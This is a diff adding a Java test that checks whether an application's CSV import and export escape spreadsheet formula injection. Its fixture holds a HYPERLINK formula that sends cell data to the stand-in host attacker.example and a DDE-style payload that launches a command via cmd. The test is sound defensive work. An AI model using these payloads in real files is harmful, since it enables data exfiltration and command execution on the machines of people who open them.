@@ -92,6 +92,27 @@ class ImportOverHttpTest {
     }
 
     @Test
+    void textASpreadsheetWouldTakeForAFormulaIsExportedAsTextAndImportsBackUnchanged() {
+        String formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
+        String file = HEADER + "\n"
+                + "FORMULA-2026,Formulas,REVIEW,1,\"" + formula.replace("\"", "\"\"") + "\",,lfb,IN_PROGRESS,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n"
+                + "FORMULA-2026,Formulas,REVIEW,2,-5 officers,,lfb,IN_PROGRESS,+44 20 7946 0000\n";
+        assertThat(secretariat.postFile("/api/imports", file.getBytes(StandardCharsets.UTF_8), CSV).getStatusCode()).isEqualTo(HttpStatus.CREATED);
+
+        String export = secretariat.getText("/api/recommendations?review=FORMULA-2026", CSV).getBody();
+        String summary = secretariat.getText("/api/reviews/FORMULA-2026/public-summary", CSV).getBody();
+
+        for (String csv : List.of(export, summary)) {
+            assertThat(csv).contains("\"'" + formula.replace("\"", "\"\"") + "\"", "'@SUM(1+1)", "'-5 officers", "'+44 20 7946 0000")
+                    .doesNotContain("," + formula.substring(0, 10), ",@SUM", ",-5 officers", ",+44");
+        }
+        ResponseEntity<Map<String, Object>> again = secretariat.upload("/api/imports", "FORMULA-2026.csv", export.getBytes(StandardCharsets.UTF_8));
+        assertThat(again.getBody()).containsEntry("created", 0).containsEntry("unchanged", 2);
+        assertThat(jdbc.sql("select text from recommendation where reference = '1' and review_id = (select id from review where code = 'FORMULA-2026')")
+                .query(String.class).single()).isEqualTo(formula);
+    }
+
+    @Test
     void eachStageOfALegacyRegisterStartsItsProcessThere() {
         ResponseEntity<Map<String, Object>> imported = secretariat.postFile("/api/imports", csv(
                 "STAGES-2026,Stages,INSPECTION,1,Respond to this.,mps,,,",
